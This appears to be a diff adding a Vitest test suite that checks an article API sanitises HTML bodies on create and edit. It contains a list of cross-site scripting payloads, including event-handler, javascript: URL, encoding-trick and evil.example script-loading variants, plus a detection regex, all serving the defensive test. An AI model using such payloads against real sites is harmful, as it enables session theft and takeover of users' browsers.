@@ -1,0 +1,87 @@
+import { afterAll, describe, expect, it } from 'vitest';
+import { createDashboardUsers } from './support/dashboard-users';
+import { createTestApp } from './support/test-app';
+
+const testApp = await createTestApp();
+const { app, db, close } = testApp;
+afterAll(close);
+const { adminToken } = await createDashboardUsers(testApp);
+const headers = { authorization: `Bearer ${adminToken}` };
+
+// What an attacker holding an administrator's token (or forging a request) would try to store for child sites.
+const hostileBodies = [
+  '<p onclick="steal()">Hello<script>alert(1)</script></p>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src="https://cdn.example.com/a.jpg" onerror="steal()" onload="steal()">',
+  '<img src=x onerror=alert(1)//',
+  '<svg onload="steal()"><script>alert(2)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>">frame</iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">Go</button></form>',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href="JaVaScRiPt:alert(1)">b</a>',
+  '<a href="jav&#x09;ascript:alert(1)">c</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">d</a>',
+  '<a href=" javascript:alert(1)">e</a>',
+  '<a href="vbscript:msgbox(1)">f</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">g</a>',
+  '<p style="background:url(javascript:alert(1))" onmouseover="steal()">styled</p>',
+  '<p/onmouseover=alert(1)>slash</p>',
+  '<body onload="steal()"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:/">',
+  '<div><a href="https://news.example.com/ok" onfocus="steal()" autofocus>fine link</a></div>',
+];
+const dangerous =
+  /<script|<iframe|<object|<embed|<svg|<math|<form|<meta|<base|\son[a-z]+\s*=|javascript:|vbscript:|data:|style=/i;
+
+const create = (body: string) =>
+  app.inject({ method: 'POST', url: '/api/v1/article', headers, payload: { title: 'Hostile', body } });
+
+async function storedBody(id: string): Promise<string> {
+  const row = await db.selectFrom('articles').select('body').where('id', '=', id).executeTakeFirstOrThrow();
+  return row.body;
+}
+
+describe('article bodies written through the API are sanitised on write', () => {
+  it.each(hostileBodies.map((body) => [body]))(
+    'stores %s without anything executable (create)',
+    async (body) => {
+      const response = await create(body);
+      expect(response.statusCode).toBe(201);
+      const stored = await storedBody(response.json().id);
+      expect(stored).not.toMatch(dangerous);
+      expect(response.json().body).toBe(stored);
+    },
+  );
+
+  it('cleans the whole corpus in one body on edit, and keeps ordinary markup', async () => {
+    const { id } = (await create('<p>draft</p>')).json();
+    const body = `<p><strong>Bold</strong> and <a href="https://example.com/x">a link</a></p>${hostileBodies.join('')}`;
+    const response = await app.inject({
+      method: 'PUT',
+      url: `/api/v1/article/${id}`,
+      headers,
+      payload: { body },
+    });
+    expect(response.statusCode).toBe(200);
+    const stored = await storedBody(id);
+    expect(stored).not.toMatch(dangerous);
+    expect(stored).toContain(
+      '<p><strong>Bold</strong> and <a href="https://example.com/x" rel="noopener noreferrer">a link</a></p>',
+    );
+    expect(stored).toContain('<a href="https://news.example.com/ok" rel="noopener noreferrer">fine link</a>');
+  });
+
+  it('leaves an edit without a body alone, and drops relative URLs (nothing to resolve them against)', async () => {
+    const { id } = (await create('<p>Kept <a href="/relative">here</a></p>')).json();
+    expect(await storedBody(id)).toBe('<p>Kept <a rel="noopener noreferrer">here</a></p>');
+    const edited = await app.inject({
+      method: 'PUT',
+      url: `/api/v1/article/${id}`,
+      headers,
+      payload: { title: 'Renamed' },
+    });
+    expect(edited.json().body).toBe('<p>Kept <a rel="noopener noreferrer">here</a></p>');
+  });
+});
